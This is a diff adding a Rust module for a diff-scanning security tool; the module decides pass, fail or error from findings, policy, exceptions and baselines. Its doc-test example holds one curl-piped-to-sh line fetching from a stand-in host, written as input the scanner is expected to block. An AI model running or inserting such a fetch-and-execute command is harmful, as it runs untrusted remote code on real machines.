@@ -1,0 +1,343 @@
+//! The decision: a pure function of (diff bytes, ruleset, policy,
+//! suppressions, scan context with the time passed in).
+//!
+//! ```
+//! use diffver_core::policy::Policy;
+//! use diffver_core::rules::Ruleset;
+//! use diffver_core::suppress::Timestamp;
+//! use diffver_core::verdict::{evaluate, Decision, Inputs, ScanContext};
+//!
+//! let ctx = ScanContext::new("scan-1", Timestamp::parse_rfc3339("2026-11-29T09:00:00Z").unwrap());
+//! let policy = Policy::builtin("standard").unwrap();
+//! let rules = Ruleset::builtin();
+//! let diff = b"--- a/x.sh\n+++ b/x.sh\n@@ -1 +1 @@\n-echo hi\n+curl -s https://x.example/i | sh\n";
+//! let v = evaluate(&Inputs::new(diff, &rules, &policy, &ctx));
+//! assert_eq!(v.decision(), Decision::Fail);
+//! ```
+
+use sha2::{Digest, Sha256};
+
+use crate::diff::{self, Limits};
+use crate::finding::Finding;
+use crate::policy::{Action, OnError, Policy};
+use crate::rules::{RuleError, Ruleset, ScanOptions};
+use crate::scan::{ScanConfig, scan};
+use crate::suppress::{Baseline, Suppression, Timestamp, inline_ignore_names};
+use crate::verify::{self, BaseTree, PostImage};
+
+/// The outcome.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Decision {
+    /// No blocking findings.
+    Pass,
+    /// At least one blocking finding.
+    Fail,
+    /// The scan could not be completed.
+    Error,
+}
+
+impl Decision {
+    /// `pass`, `fail` or `error`.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Decision::Pass => "pass",
+            Decision::Fail => "fail",
+            Decision::Error => "error",
+        }
+    }
+}
+
+/// Identity and time of a scan, passed in (the core reads no clock).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ScanContext {
+    /// The scan's id (names the diff and the artifact: `diffs/{scan_id}.patch`).
+    pub scan_id: String,
+    /// The scan time: exceptions expire against it, artifacts record it.
+    pub now: Timestamp,
+}
+
+impl ScanContext {
+    /// A context.
+    pub fn new(scan_id: impl Into<String>, now: Timestamp) -> ScanContext {
+        ScanContext {
+            scan_id: scan_id.into(),
+            now,
+        }
+    }
+}
+
+/// Everything a decision depends on.
+#[derive(Clone, Copy)]
+pub struct Inputs<'a> {
+    /// The raw diff.
+    pub diff: &'a [u8],
+    /// The compiled rules (see [`ruleset_for`]).
+    pub rules: &'a Ruleset,
+    /// The policy.
+    pub policy: &'a Policy,
+    /// Accepted fingerprints, if any.
+    pub baseline: Option<&'a Baseline>,
+    /// Scan id and time.
+    pub ctx: &'a ScanContext,
+    /// Base tree for apply verification, if any.
+    pub base: Option<&'a dyn BaseTree>,
+    /// Key for secret fingerprints, if any.
+    pub fingerprint_key: Option<&'a [u8]>,
+}
+
+impl<'a> Inputs<'a> {
+    /// Inputs with no baseline, base tree or fingerprint key.
+    pub fn new(diff: &'a [u8], rules: &'a Ruleset, policy: &'a Policy, ctx: &'a ScanContext) -> Inputs<'a> {
+        Inputs {
+            diff,
+            rules,
+            policy,
+            baseline: None,
+            ctx,
+            base: None,
+            fingerprint_key: None,
+        }
+    }
+}
+
+/// A finding with what the policy and suppressions made of it.
+#[derive(Debug, Clone)]
+pub struct Evaluated {
+    /// The finding.
+    pub finding: Finding,
+    /// The policy's action.
+    pub action: Action,
+    /// What suppressed it, if anything.
+    pub suppression: Option<Suppression>,
+}
+
+impl Evaluated {
+    /// Whether it blocks: the policy blocks it and nothing suppressed it.
+    pub fn is_blocking(&self) -> bool {
+        self.action == Action::Block && self.suppression.is_none()
+    }
+}
+
+/// Facts about the scanned diff.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct DiffFacts {
+    /// SHA-256 of the diff bytes (hex).
+    pub sha256: String,
+    /// Size in bytes.
+    pub bytes: usize,
+    /// File patches.
+    pub files: usize,
+    /// Added lines.
+    pub added: usize,
+    /// Removed lines.
+    pub removed: usize,
+}
+
+/// The result of a scan under a policy.
+#[derive(Debug, Clone)]
+pub struct Verdict {
+    pub(crate) decision: Decision,
+    pub(crate) blocks: bool,
+    pub(crate) findings: Vec<Evaluated>,
+    pub(crate) expired_exceptions: Vec<String>,
+    pub(crate) error: Option<String>,
+    pub(crate) diff: DiffFacts,
+    pub(crate) post_images: Vec<PostImage>,
+    pub(crate) policy_id: String,
+    pub(crate) policy_version: String,
+    pub(crate) policy_hash: String,
+    pub(crate) ruleset_hash: String,
+    pub(crate) rules: usize,
+    pub(crate) ctx: ScanContext,
+}
+
+impl Verdict {
+    /// Pass, fail or error.
+    pub fn decision(&self) -> Decision {
+        self.decision
+    }
+
+    /// Whether the change should be stopped: `fail`, or `error` under a
+    /// fail-closed policy.
+    pub fn blocks(&self) -> bool {
+        self.blocks
+    }
+
+    /// Every finding, in order, with its action and suppression.
+    pub fn findings(&self) -> &[Evaluated] {
+        &self.findings
+    }
+
+    /// The blocking findings.
+    pub fn blocking(&self) -> impl Iterator<Item = &Evaluated> {
+        self.findings.iter().filter(|e| e.is_blocking())
+    }
+
+    /// The suppressed findings.
+    pub fn suppressed(&self) -> impl Iterator<Item = &Evaluated> {
+        self.findings.iter().filter(|e| e.suppression.is_some())
+    }
+
+    /// Exceptions that matched a finding but had expired (so did not apply).
+    pub fn expired_exceptions(&self) -> &[String] {
+        &self.expired_exceptions
+    }
+
+    /// Why the scan could not complete, for `error`.
+    pub fn error(&self) -> Option<&str> {
+        self.error.as_deref()
+    }
+
+    /// Facts about the diff.
+    pub fn diff(&self) -> &DiffFacts {
+        &self.diff
+    }
+
+    /// Verified post-images.
+    pub fn post_images(&self) -> &[PostImage] {
+        &self.post_images
+    }
+
+    /// The policy's id, version and canonical hash.
+    pub fn policy(&self) -> (&str, &str, &str) {
+        (&self.policy_id, &self.policy_version, &self.policy_hash)
+    }
+
+    /// SHA-256 of the rule sources and the number of rules.
+    pub fn ruleset(&self) -> (&str, usize) {
+        (&self.ruleset_hash, self.rules)
+    }
+
+    /// The scan context.
+    pub fn context(&self) -> &ScanContext {
+        &self.ctx
+    }
+}
+
+/// The built-in rules plus any the policy carries.
+///
+/// # Errors
+///
+/// [`RuleError`] if the policy's rules do not load.
+pub fn ruleset_for(policy: &Policy) -> Result<Ruleset, RuleError> {
+    let mut b = Ruleset::builder().add_builtin()?;
+    if let Some(src) = policy.rules_toml() {
+        b = b.add_toml(src, &format!("policy:{}", policy.id()))?;
+    }
+    b.build()
+}
+
+/// The line of `input` that contains offset `at`.
+fn line_at(input: &[u8], at: usize) -> &[u8] {
+    let at = at.min(input.len());
+    let start = memchr::memrchr(b'\n', &input[..at]).map_or(0, |i| i + 1);
+    let end = memchr::memchr(b'\n', &input[at..]).map_or(input.len(), |i| at + i);
+    &input[start..end]
+}
+
+/// Scans, applies the policy and suppressions, and decides.
+pub fn evaluate(inputs: &Inputs<'_>) -> Verdict {
+    let policy = inputs.policy;
+    let facts = DiffFacts {
+        sha256: crate::hex(&Sha256::digest(inputs.diff)),
+        bytes: inputs.diff.len(),
+        files: 0,
+        added: 0,
+        removed: 0,
+    };
+    let mut verdict = Verdict {
+        decision: Decision::Pass,
+        blocks: false,
+        findings: Vec::new(),
+        expired_exceptions: Vec::new(),
+        error: None,
+        diff: facts,
+        post_images: Vec::new(),
+        policy_id: policy.id().to_owned(),
+        policy_version: policy.version().to_owned(),
+        policy_hash: policy.hash().to_owned(),
+        ruleset_hash: inputs.rules.hash().to_owned(),
+        rules: inputs.rules.len(),
+        ctx: inputs.ctx.clone(),
+    };
+    let mut limits = Limits::default();
+    if let Some(n) = policy.max_diff_bytes() {
+        limits = limits.with_max_input_bytes(n);
+    }
+    if let Some(n) = policy.max_files() {
+        limits = limits.with_max_files(n);
+    }
+    let parsed = match diff::parse(inputs.diff, &limits) {
+        Ok(p) => p,
+        Err(e) => {
+            verdict.decision = Decision::Error;
+            verdict.blocks = policy.on_error() == OnError::FailClosed;
+            verdict.error = Some(e.to_string());
+            return verdict;
+        }
+    };
+    verdict.diff.files = parsed.files().len();
+    let (a, r) = parsed
+        .files()
+        .iter()
+        .fold((0, 0), |(a, r), f| {
+            let (fa, fr) = f.line_counts();
+            (a + fa, r + fr)
+        });
+    verdict.diff.added = a;
+    verdict.diff.removed = r;
+    let mut config = ScanConfig::default();
+    if let Some(base) = inputs.base {
+        config.verify = verify::Options::default().with_base(base);
+    }
+    if let Some(k) = inputs.fingerprint_key {
+        config.rules = ScanOptions::default().with_fingerprint_key(k.to_vec());
+    }
+    let report = scan(&parsed, inputs.rules, &config);
+    verdict.post_images = report.post_images().to_vec();
+    let mut expired = std::collections::BTreeSet::new();
+    for f in report.findings() {
+        let action = policy.action_for(f);
+        let mut suppression = None;
+        for e in policy.exceptions() {
+            if !e.matches(f) {
+                continue;
+            }
+            if e.expired(inputs.ctx.now) {
+                expired.insert(format!(
+                    "{} (expired {}; {})",
+                    e.describe(),
+                    e.expires_at().map(Timestamp::to_rfc3339).unwrap_or_default(),
+                    e.reason()
+                ));
+                continue;
+            }
+            suppression = Some(Suppression::Exception {
+                matches: e.describe(),
+                reason: e.reason().to_owned(),
+                author: e.author().to_owned(),
+            });
+            break;
+        }
+        if suppression.is_none() && inputs.baseline.is_some_and(|b| b.contains(f.fingerprint())) {
+            suppression = Some(Suppression::Baseline);
+        }
+        if suppression.is_none()
+            && policy.inline_ignores().iter().any(|r| r == f.rule_id())
+            && inline_ignore_names(line_at(inputs.diff, f.location().span.start), f.rule_id())
+        {
+            suppression = Some(Suppression::InlineComment);
+        }
+        verdict.findings.push(Evaluated {
+            finding: f.clone(),
+            action,
+            suppression,
+        });
+    }
+    verdict.expired_exceptions = expired.into_iter().collect();
+    if verdict.findings.iter().any(Evaluated::is_blocking) {
+        verdict.decision = Decision::Fail;
+        verdict.blocks = true;
+    }
+    verdict
+}
